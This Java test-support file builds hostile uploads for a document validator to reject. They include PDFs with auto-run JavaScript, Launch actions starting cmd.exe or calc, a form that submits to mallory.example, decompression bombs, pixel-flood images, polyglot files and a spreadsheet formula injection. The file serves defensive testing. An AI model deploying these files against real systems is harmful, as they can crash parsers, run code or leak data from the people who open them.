package org.pidesk.vault;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.BitSet;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.Random;
import java.util.zip.CRC32;
import java.util.zip.DeflaterOutputStream;
import org.pidesk.HostilePaper;
import org.pidesk.OnePage;

/** Files of every kind that somebody might try in the place of a paper, made as they are asked for. */
final class HostileFiles {
    private static final int MEGABYTE = 1024 * 1024;

    private HostileFiles() {}

    interface Making {
        byte[] make() throws IOException;
    }

    /** None of these may be kept. */
    static Map<String, Making> toBeRefused() {
        var files = new LinkedHashMap<String, Making>();
        for (var known : HostilePaper.values()) {
            files.put(known.name(), known::document);
        }
        otherTypes(files);
        programsInPdfs(files);
        brokenPdfs(files);
        bombs(files);
        brokenPictures(files);
        return files;
    }

    /** What is told by its first bytes: alone, with a PDF behind it, and with the ending of a picture. */
    private static void otherTypes(Map<String, Making> files) {
        var beginnings = new LinkedHashMap<String, String>();
        beginnings.put("GIF", "474946383961");
        beginnings.put("BMP", "424D");
        beginnings.put("TIFF", "49492A00");
        beginnings.put("WEBP", "524946461000000057454250");
        beginnings.put("ICO", "00000100");
        beginnings.put("PSD", "38425053");
        beginnings.put("ZIP", "504B0304");
        beginnings.put("RAR", "526172211A0700");
        beginnings.put("7Z", "377ABCAF271C");
        beginnings.put("GZIP", "1F8B08");
        beginnings.put("XZ", "FD377A585A00");
        beginnings.put("Windows program", "4D5A9000");
        beginnings.put("Linux program", "7F454C46");
        beginnings.put("Java class", "CAFEBABE00000037");
        beginnings.put("old Office", "D0CF11E0A1B11AE1");
        beginnings.put("RTF", "7B5C72746631");
        beginnings.put("PostScript", "252150532D41646F6265");
        beginnings.put("MP4", "0000001866747970");
        beginnings.put("Flash", "435753");
        beginnings.put("WebAssembly", "0061736D01000000");
        beginnings.put("serialized object", "ACED0005");
        beginnings.put(
                "HTML",
                HexFormat.of().formatHex("<html><script>alert(1)</script>".getBytes(StandardCharsets.US_ASCII)));
        beginnings.put(
                "XML",
                HexFormat.of().formatHex("<?xml version=\"1.0\"?><!DOCTYPE x>".getBytes(StandardCharsets.US_ASCII)));
        beginnings.put("shell", HexFormat.of().formatHex("#!/bin/sh\nid\n".getBytes(StandardCharsets.US_ASCII)));
        beginnings.put("batch", HexFormat.of().formatHex("@echo off\r\n".getBytes(StandardCharsets.US_ASCII)));
        beginnings.put("table", HexFormat.of().formatHex("=cmd|' /C calc'!A0,1\n".getBytes(StandardCharsets.US_ASCII)));
        beginnings.put("shortcut", "4C00000001140200");
        beginnings.put("mail", HexFormat.of().formatHex("From: x\r\n\r\nx".getBytes(StandardCharsets.US_ASCII)));
        beginnings.put("empty lines", "0A0A0A0A");
        beginnings.put("mark of order", "EFBBBF");
        beginnings.forEach((name, hex) -> {
            var bytes = HexFormat.of().parseHex(hex);
            files.put(name, () -> Arrays.copyOf(bytes, bytes.length + 100));
            files.put(name + " before a PDF", () -> joined(bytes, OnePage.pdf()));
            files.put(name + " before a PNG", () -> joined(bytes, OnePage.picture("png")));
        });
    }

    private static void programsInPdfs(Map<String, Making> files) {
        var root = new LinkedHashMap<String, String>();
        root.put("JavaScript as it opens", "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>");
        root.put("JavaScript under an escaped name", "/OpenAction << /S /J#61vaScript /#4A#53 (x) >>");
        root.put("JavaScript as it closes", "/AA << /WC << /S /JavaScript /JS (x) >> >>");
        root.put("JavaScript by name", "/Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (x) >>] >> >>");
        root.put(
                "JavaScript in an action after an action",
                "/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (x) >> >>");
        root.put("start of a program", "/OpenAction << /S /Launch /F (calc.exe) >>");
        root.put("start of a program on Windows", "/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>");
        root.put("other file, opened", "/OpenAction << /S /GoToR /F (\\\\\\\\mallory.example\\\\x.pdf) /D [0 /Fit] >>");
        root.put("file within, opened", "/OpenAction << /S /GoToE /T << /R /C /N (x) >> /D [0 /Fit] >>");
        root.put("form that sends itself", "/OpenAction << /S /SubmitForm /F (https://mallory.example/) >>");
        root.put("data read in", "/OpenAction << /S /ImportData /F (x.fdf) >>");
        root.put("form of XFA", "/AcroForm << /Fields [] /XFA 6 0 R >>");
        root.put("form of XFA in parts", "/AcroForm << /Fields [] /XFA [(template) 6 0 R] >>");
        root.put("film that runs", "/OpenAction << /S /Rendition /OP 4 /JS (x) >>");
        root.put("rich media", "/OpenAction << /S /RichMediaExecute /CMD << /C (x) >> >>");
        root.put(
                "files within",
                "/Names << /EmbeddedFiles << /Names [(x.exe) << /Type /Filespec /F (x.exe) /EF << /F 6 0 R >> >>] >> >>");
        root.put(
                "files of a portfolio",
                "/Collection << /View /D >> /AF [<< /Type /Filespec /F (x.exe) /EF << /F 6 0 R >> >>]");
        root.forEach((name, entries) -> files.put("PDF: " + name, () -> pdf(entries, "")));
        var page = new LinkedHashMap<String, String>();
        page.put("JavaScript on a page", "/AA << /O << /S /JavaScript /JS (x) >> >>");
        page.put(
                "JavaScript on a button",
                "/Annots [<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /A << /S /JavaScript /JS (x) >> >>]");
        page.put(
                "file on a page",
                "/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /F (x.exe) /EF << /F 6 0 R >> >> >>]");
        page.put(
                "start of a program on a page",
                "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (x.exe) >> >>]");
        page.put(
                "rich media on a page",
                "/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << >> >>]");
        page.put(
                "body that runs",
                "/Annots [<< /Type /Annot /Subtype /3D /Rect [0 0 9 9] /3DD << /Type /3D /Subtype /U3D /OnInstantiate 6 0 R >> >>]");
        page.put(
                "screen",
                "/Annots [<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] /A << /S /Rendition /OP 0 /JS (x) >> >>]");
        page.put(
                "other file on a page",
                "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F (x.pdf) /D [0 /Fit] >> >>]");
        page.forEach((name, entries) -> files.put("PDF: " + name, () -> pdf("", entries)));
    }

    private static void brokenPdfs(Map<String, Making> files) {
        files.put(
                "PDF: whose pages go round",
                () -> ascii(
                        "%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
                                + "2 0 obj\n<< /Type /Pages /Kids [2 0 R] /Count 1 >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF"));
        files.put(
                "PDF: whose contents go round",
                () -> ascii("%PDF-1.7\n1 0 obj\n1 0 R\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF"));
        files.put(
                "PDF: with a password",
                () -> ascii(
                        "%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
                                + "trailer << /Root 1 0 R /Encrypt << /Filter /Standard /V 1 /R 2 /O (x) /U (x) /P -4 >> >>\n%%EOF"));
        files.put(
                "PDF: of words deep down",
                () -> ascii("%PDF-1.7\n1 0 obj\n" + "<< /A ".repeat(200_000) + "\nendobj\ntrailer << /Root 1 0 R >>"));
        files.put("PDF: that begins too late", () -> joined(new byte[2_000], OnePage.pdf()));
        for (var part : new int[] {5, 9, 20, 60}) {
            files.put("PDF: cut off after " + part, () -> Arrays.copyOf(OnePage.pdf(), part));
        }
        files.put("PDF: above what is taken", () -> Arrays.copyOf(OnePage.pdf(), 5 * MEGABYTE + 1));
        files.put("noise", () -> {
            var noise = new byte[MEGABYTE];
            new Random(7).nextBytes(noise);
            return noise;
        });
        files.put("one byte", () -> new byte[] {'%'});
    }

    private static void bombs(Map<String, Making> files) {
        var zeros = folded(150);
        files.put("bomb as it is", () -> objects(zeros, "/FlateDecode"));
        files.put("bomb in two layers", () -> objects(folded(zeros), "[/FlateDecode /FlateDecode]"));
        files.put("bomb written in hexadecimal", () -> objects(hex(zeros), "[/ASCIIHexDecode /FlateDecode]"));
        files.put("bomb under short names", () -> objects(hex(zeros), "[/AHx /Fl]"));
        files.put(
                "bomb under escaped names",
                () -> objects(hex(zeros), "[/#41HexDecode#20 /ASCII#48exDecode /FlateDecode]"));
        files.put("bomb written in base 85", () -> objects(base85(zeros), "[/ASCII85Decode /FlateDecode]"));
        files.put("bomb of repeated bytes", () -> objects(repeated(4 * MEGABYTE), "/RunLengthDecode"));
        files.put(
                "bomb of repeated bytes, folded",
                () -> objects(folded(repeated(MEGABYTE)), "[/FlateDecode /RunLengthDecode]"));
        files.put("bomb of LZW", () -> objects(lzw(), "/LZWDecode"));
        files.put("bomb of LZW, folded", () -> objects(folded(lzw()), "[/FlateDecode /LZWDecode]"));
    }

    private static void brokenPictures(Map<String, Making> files) {
        for (var format : new String[] {"png", "jpeg"}) {
            for (var part : new int[] {4, 12, 25, 33, 45}) {
                files.put(format + " cut off after " + part, () -> Arrays.copyOf(OnePage.picture(format), part));
            }
        }
        files.put("PNG of four thousand million dots", () -> png(65_000, 65_000));
        files.put("PNG of one endless line", () -> png(Integer.MAX_VALUE, 1));
        files.put("PNG of one endless column", () -> png(1, Integer.MAX_VALUE));
        files.put("PNG of no dots", () -> png(0, 0));
        files.put("PNG of less than none", () -> png(-1, -1));
        files.put("PNG just above", () -> png(7_072, 7_072));
        files.put("JPEG of four thousand million dots", () -> jpeg(65_500, 65_500));
        files.put("JPEG of no dots", () -> jpeg(0, 0));
        files.put(
                "PNG that is a page",
                () -> joined(HexFormat.of().parseHex("89504E470D0A1A0A"), ascii("<html><script>x</script>")));
        files.put(
                "JPEG that is a page",
                () -> joined(HexFormat.of().parseHex("FFD8FFE0"), ascii("<html><script>x</script>")));
        files.put("picture above what is taken", () -> Arrays.copyOf(OnePage.picture("png"), 5 * MEGABYTE + 1));
    }

    /** A PDF of one page, with more at its root or on its page; object 6 is some words. */
    static byte[] pdf(String root, String page) {
        return ascii("%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + root + " >>\nendobj\n"
                + "2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
                + "3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] " + page + " >>\nendobj\n"
                + "6 0 obj\n<< /Length 5 >>\nstream\nhello\nendstream\nendobj\n"
                + "trailer << /Root 1 0 R /Size 7 >>\n%%EOF");
    }

    /** A PDF whose objects are folded in such a way. */
    private static byte[] objects(byte[] folded, String how) {
        return joined(
                joined(
                        ascii("%PDF-1.7\n1 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter " + how + " /Length "
                                + folded.length + " >>\nstream\n"),
                        folded),
                ascii("\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF"));
    }

    private static byte[] folded(int megabytes) {
        var bytes = new ByteArrayOutputStream();
        try (var folding = new DeflaterOutputStream(bytes)) {
            for (int i = 0; i < megabytes; i++) {
                folding.write(new byte[MEGABYTE]);
            }
        } catch (IOException impossible) {
            throw new IllegalStateException(impossible);
        }
        return bytes.toByteArray();
    }

    private static byte[] folded(byte[] plain) throws IOException {
        var bytes = new ByteArrayOutputStream();
        try (var folding = new DeflaterOutputStream(bytes)) {
            folding.write(plain);
        }
        return bytes.toByteArray();
    }

    private static byte[] hex(byte[] plain) {
        return ascii(HexFormat.of().formatHex(plain) + ">");
    }

    private static byte[] base85(byte[] plain) {
        var text = new StringBuilder();
        for (int at = 0; at + 4 <= plain.length; at += 4) {
            var four = Integer.toUnsignedLong(ByteBuffer.wrap(plain, at, 4).getInt());
            var five = new char[5];
            for (int i = 4; i >= 0; i--) {
                five[i] = (char) ('!' + four % 85);
                four /= 85;
            }
            text.append(five);
        }
        return ascii(text + "~>");
    }

    /** Two bytes for 128 of them. */
    private static byte[] repeated(int length) {
        var bytes = new byte[length];
        for (int i = 0; i < length; i += 2) {
            bytes[i] = (byte) 129;
        }
        return bytes;
    }

    /** Each code stands for one zero more than the one before it. */
    private static byte[] lzw() {
        var bits = new BitSet();
        var at = new int[1];
        for (int round = 0; round < 500; round++) {
            code(bits, at, 256, 9);
            code(bits, at, 0, 9);
            for (int next = 258; next < 4_094; next++) {
                code(bits, at, next, width(next));
            }
        }
        var bytes = new byte[at[0] / 8 + 1];
        for (int i = 0; i < at[0]; i++) {
            if (bits.get(i)) {
                bytes[i / 8] |= (byte) (128 >> i % 8);
            }
        }
        return bytes;
    }

    private static int width(int code) {
        return code < 511 ? 9 : code < 1_023 ? 10 : code < 2_047 ? 11 : 12;
    }

    private static void code(BitSet bits, int[] at, int code, int width) {
        for (int i = width - 1; i >= 0; i--) {
            bits.set(at[0]++, (code >> i & 1) == 1);
        }
    }

    private static byte[] png(int width, int height) {
        var picture = OnePage.picture("png");
        ByteBuffer.wrap(picture).putInt(16, width).putInt(20, height);
        var sum = new CRC32();
        sum.update(picture, 12, 17);
        ByteBuffer.wrap(picture).putInt(29, (int) sum.getValue());
        return picture;
    }

    private static byte[] jpeg(int width, int height) {
        var picture = OnePage.picture("jpeg");
        for (int i = 0; i < picture.length - 9; i++) {
            if ((picture[i] & 255) == 0xFF && (picture[i + 1] & 255) == 0xC0) {
                ByteBuffer.wrap(picture).putShort(i + 5, (short) height).putShort(i + 7, (short) width);
            }
        }
        return picture;
    }

    static byte[] joined(byte[] first, byte[] second) {
        var both = Arrays.copyOf(first, first.length + second.length);
        System.arraycopy(second, 0, both, first.length, second.length);
        return both;
    }

    private static byte[] ascii(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }
}
